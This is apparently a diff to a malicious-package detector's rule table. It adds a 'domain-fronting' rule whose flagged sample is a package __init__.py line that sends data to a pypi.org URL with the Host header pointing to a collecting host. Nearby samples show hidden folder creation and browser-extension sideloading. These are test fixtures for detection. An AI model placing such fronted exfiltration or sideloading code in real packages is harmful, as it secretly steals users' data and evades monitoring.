@@ -107,6 +107,15 @@ RULES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
                      "os.makedirs(os.getenv('APPDATA') + '\\\\Extension', exist_ok=True)\n"},
         {"setup.py": "import os\nos.makedirs(os.path.expanduser('~/.cache/tidy'), "
                      "exist_ok=True)\nopen('Desktop.ini').read()\n"}),
+    "domain-fronting": (
+        {"pkg/__init__.py": "from urllib import request\n"
+                            "r = request.Request('https://pypi.org/reqs?d=' + data, "
+                            "headers={'Host': 'collect.example-cdn.net'})\n"},
+        {"pkg/__init__.py": "import requests\n"
+                            "requests.get('https://api.example.com/v1', "
+                            "headers={'Host': 'api.example.com:443', 'Accept': 'json'})\n"
+                            "requests.get('http://localhost:8080/', "
+                            "headers={'Host': 'example.com'})\n"}),
     "browser-extension-sideload": (
         {"setup.py": "s.Arguments = '--load-extension={0}\\\\Extension'.format(path)\n"},
         {"setup.py": "doc = 'Load the extension from the browser menu, then reload'\n"}),
